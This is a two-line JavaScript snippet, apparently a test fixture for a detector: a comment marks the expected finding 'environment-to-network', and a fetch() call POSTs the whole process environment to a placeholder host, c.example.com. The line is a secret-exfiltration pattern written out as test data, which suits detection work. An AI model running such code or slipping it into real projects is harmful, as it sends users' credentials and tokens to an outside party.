// expect: environment-to-network
fetch("https://c.example.com", { method: "POST", body: JSON.stringify(process.env) });
